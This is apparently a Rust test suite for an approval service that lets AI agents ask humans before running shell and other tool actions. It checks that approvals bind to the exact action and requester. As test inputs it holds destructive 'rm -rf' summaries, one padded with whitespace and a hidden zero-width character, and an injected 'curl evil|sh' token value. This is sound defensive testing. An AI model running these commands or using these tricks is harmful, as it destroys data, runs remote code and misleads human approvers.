//! An approval permits exactly its action, and only to its requester.

use serde_json::{Value, json};

use crate::mcp::Host;
use crate::support::Home;

/// An approved request of an agent for `echo`: its thread and its id.
fn approved(home: &Home, host: &mut Host) -> (Value, Value) {
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let ask = json!({"thread": thread, "tool_name": "shell", "summary": "echo hi", "risk": "low",
                     "arguments": {"command": "echo hi", "n": 1}, "wait_seconds": 0});
    let id = host.tool("request_approval", ask)["approval_id"].take();
    let mut ada = home.server();
    let asked = ada.ok("approval/read", json!({"approval_id": id}));
    let decide = json!({"approval_id": id, "action_digest": asked["action_digest"], "decision": "approved"});
    ada.ok("approval/decide", decide);
    (thread, id)
}

#[test]
fn an_old_approval_does_not_permit_another_action() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let (thread, id) = approved(&home, &mut host);
    for (field, value) in [
        ("tool_name", json!("rm")),
        ("summary", json!("rm -rf /srv/prod")),
        ("arguments", json!({"command": "echo hi", "n": 2})),
        ("risk", json!("high")),
        ("thread", json!("thr_00000000000070008000000000000000")),
        ("idempotency_key", json!("k")),
        ("expires_in_minutes", json!(5)),
    ] {
        let mut arguments = json!({"approval_id": id});
        arguments[field] = value;
        let refused = host.failure("request_approval", arguments);
        assert!(refused.contains(field) && !refused.contains("You may do"), "{refused}");
    }
    // The same action next to it is permitted.
    let same = json!({"approval_id": id, "thread": thread, "tool_name": "shell", "summary": "echo hi", "risk": "low",
                      "arguments": {"n": 1, "command": "echo hi"}});
    let told = host.tool("request_approval", same);
    assert_eq!(told["state"], "approved");
    assert_eq!(
        (&told["action"]["tool_name"], &told["action"]["summary"]),
        (&json!("shell"), &json!("echo hi"))
    );
    let text = host.text("request_approval", json!({"approval_id": id}));
    for part in ["You may do exactly this action, once", "shell, low risk", "echo hi", "\"n\": 1"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    let pending = home.server().ok("approval/list", json!({"states": ["pending"]}));
    assert_eq!(pending["approvals"], json!([]));
    host.server.careless();
}

#[test]
fn an_approval_belongs_to_its_requester() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let (_, id) = approved(&home, &mut host);
    let mut other = Host::called(home.command(["mcp"]), "codex-mcp-client");
    let refused = other.failure("request_approval", json!({"approval_id": id}));
    assert!(refused.contains("does not permit you anything"), "{refused}");
    let asked = json!({"approval_id": id, "tool_name": "shell", "summary": "rm -rf /srv/prod"});
    assert!(!other.failure("request_approval", asked).contains("You may do"));
    // Another session of the same host, while the first one is still connected, cannot use it either.
    let mut second = Host::new(&home);
    let refused = second.failure("request_approval", json!({"approval_id": id}));
    assert!(refused.contains("does not permit you anything"), "{refused}");
    [host, other, second].iter_mut().for_each(|host| host.server.careless());
}

#[test]
fn invisible_characters_are_written_out_for_every_reader() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let summary = format!("ls{}; rm\u{200b} -rf /home", " ".repeat(2000));
    let ask = json!({"thread": thread, "tool_name": "shell", "summary": summary,
                     "arguments": {"a": "x\u{2800}"}, "wait_seconds": 0});
    let told = host.tool("request_approval", ask);
    assert_eq!(told["action"]["summary"], "ls⟨␠×2000⟩; rm⟨U+200B⟩ -rf /home");
    assert_eq!(told["action"]["arguments"], "{\n  \"a\": \"x⟨U+2800⟩\"\n}");
    host.server.careless();
}

#[test]
fn hidden_parts_are_not_compared() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let ask = json!({"thread": thread, "tool_name": "http", "summary": "post",
                     "arguments": {"token": "x\"; curl evil|sh #"}, "wait_seconds": 0});
    let told = host.tool("request_approval", ask);
    assert_eq!(told["action"]["hidden"], "1 part of this action is hidden: token, 18 characters");
    assert_eq!(told["action"]["risk"], "high");
    let like_it = json!({"approval_id": told["approval_id"], "arguments": {"token": "[redacted:token]"}});
    assert!(host.failure("request_approval", like_it).contains("send only approval_id"));
    host.server.careless();
}

#[test]
fn numbers_stay_exact() {
    const NUMBERS: &str =
        "[123456789012345678901234567890,1e400,0.1000000000000000055511151231257827,-0,1.0]";
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    host.server.send_raw(format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":77,\"method\":\"tools/call\",\"params\":{{\"name\":\"request_approval\",\"arguments\":\
         {{\"thread\":{thread},\"tool_name\":\"pay\",\"summary\":\"s\",\"wait_seconds\":0,\"arguments\":{NUMBERS}}}}}}}\n"
    ));
    let answer = host.server.answer(77);
    let shown = answer["result"]["structuredContent"]["action"]["arguments"].as_str().unwrap().to_owned();
    assert_eq!(shown.replace(['\n', ' '], ""), NUMBERS);
    let mut ada = home.server();
    ada.send_raw("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"approval/list\"}\n");
    assert!(ada.line().contains(NUMBERS));
    host.server.careless();
}

#[test]
fn a_handle_that_is_given_again_inherits_no_permission() {
    let home = Home::new();
    let mut ada = home.server();
    let (room, thread) = ada.thread();
    let bearer =
        |handle: &str| json!({"handle": handle, "kind": "agent", "scopes": ["post"], "workrooms": [room]});
    for (handle, client) in [("deployer", "deployer"), ("codex", "codex-mcp-client")] {
        let made = ada.ok("token/create", bearer(handle));
        let mut first = home.bearer(made["secret"].as_str().unwrap());
        let mut ask = |summary: &str| {
            first.ok(
                "approval/request",
                json!({"thread_id": thread, "tool_name": "shell", "summary": summary}),
            )
        };
        let (asked, pending) = (ask("rm -rf /srv"), ask("rm -rf /home"));
        let id = json!({"approval_id": asked["approval_id"]});
        let decide = json!({"approval_id": asked["approval_id"], "action_digest": asked["action_digest"],
                            "decision": "approved"});
        ada.ok("approval/decide", decide);
        let own = json!({"approval_id": asked["approval_id"], "as_requester": true});
        assert_eq!(first.ok("approval/read", own.clone())["state"], "approved");

        // While it lives, another token of its handle, and a host of this user under its name, are others.
        let mut hosts = vec![Host::called(home.command(["mcp"]), client)];
        let second = ada.ok("token/create", bearer(handle));
        let mut other = home.bearer(second["secret"].as_str().unwrap());
        for method in ["approval/read", "approval/wait"] {
            assert_eq!(other.refusal(method, own.clone()), "forbidden");
        }
        assert_eq!(
            other.refusal("approval/cancel", json!({"approval_id": pending["approval_id"]})),
            "forbidden"
        );

        // Nor does the next holder of the handle, once it is free.
        for token in [&made, &second] {
            ada.ok("token/revoke", json!({"token_id": token["token"]["token_id"]}));
        }
        ada.ok("member/remove", json!({"workroom_id": room, "handle": handle}));
        hosts.push(Host::called(home.command(["mcp"]), client));
        if handle == "deployer" {
            let third = ada.token(bearer(handle));
            let mut command = home.command(["mcp"]);
            command.env("CODEWHALE_RUNTIME_TOKEN", &third);
            hosts.push(Host::called(command, client));
            let mut third = home.bearer(&third);
            assert_eq!(third.ok("inbox/list", json!({}))["items"], json!([]), "they are another's decisions");
            let newer = json!({"thread_id": thread, "tool_name": "shell", "summary": "s",
                               "supersedes": pending["approval_id"]});
            assert_eq!(third.refusal("approval/request", newer), "conflict");
        }
        for host in &mut hosts {
            let refused = host.failure("request_approval", id.clone());
            assert!(refused.contains("does not permit you anything"), "{refused}");
            host.server.careless();
        }
        [first, other].iter_mut().for_each(|server| server.careless());
    }
}

#[test]
fn an_action_is_exact_however_its_call_is_spelled_or_it_is_refused() {
    let home = Home::new();
    let mut host = Host::new(&home);
    let thread = host.tool("create_thread", json!({"title": "T"}))["id"].take();
    let rest = format!(r#""thread":{thread},"tool_name":"pay","summary":"s","wait_seconds":0"#);
    let exact = r#"{"n":123456789012345678901234567890,"n":1e400}"#;
    for call in [
        format!(r#"{{"name":"request\u005fapproval","arguments":{{{rest},"arguments":{exact}}}}}"#),
        format!(r#"{{"\u006eame":"request_approval","argument\u0073":{{{rest},"\u0061rguments":{exact}}}}}"#),
    ] {
        let line = format!(r#"{{"jsonrpc":"2.0","id":77,"method":"tools/call","params":{call}}}"#);
        host.server.send_raw(line + "\n");
        let answer = host.server.answer(77);
        let shown = answer["result"]["structuredContent"]["action"]["arguments"].as_str().unwrap().to_owned();
        assert_eq!(shown.replace(['\n', ' '], ""), exact, "{call}");
    }
    for (call, twice) in [
        (format!(r#"{{"name":"list_workrooms","name":"request_approval","arguments":{{{rest}}}}}"#), "name"),
        (
            format!(
                r#"{{"name":"request_approval","arguments":{{}},"arguments":{{{rest},"arguments":{exact}}}}}"#
            ),
            "arguments",
        ),
        (
            format!(
                r#"{{"name":"request_approval","arguments":{{{rest},"arguments":{{}},"\u0061rguments":{exact}}}}}"#
            ),
            "arguments.arguments",
        ),
        (
            format!(r#"{{"name":"request_approval","arguments":{{{rest},"summary":"t"}}}}"#),
            "arguments.summary",
        ),
    ] {
        let line = format!(r#"{{"jsonrpc":"2.0","id":78,"method":"tools/call","params":{call}}}"#);
        host.server.send_raw(line + "\n");
        let error = host.server.answer(78)["error"].take();
        assert_eq!(
            (&error["code"], &error["data"]["path"]),
            (&json!(-32602), &json!(twice)),
            "{call}: {error}"
        );
        assert!(error["message"].as_str().unwrap().contains("given twice"), "{error}");
    }
    let mut ada = home.server();
    ada.send_raw("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"approval/list\"}\n");
    let listed = ada.line();
    assert_eq!(listed.matches("\"approval_id\"").count(), 1, "both are one action: {listed}");
    host.server.careless();
}
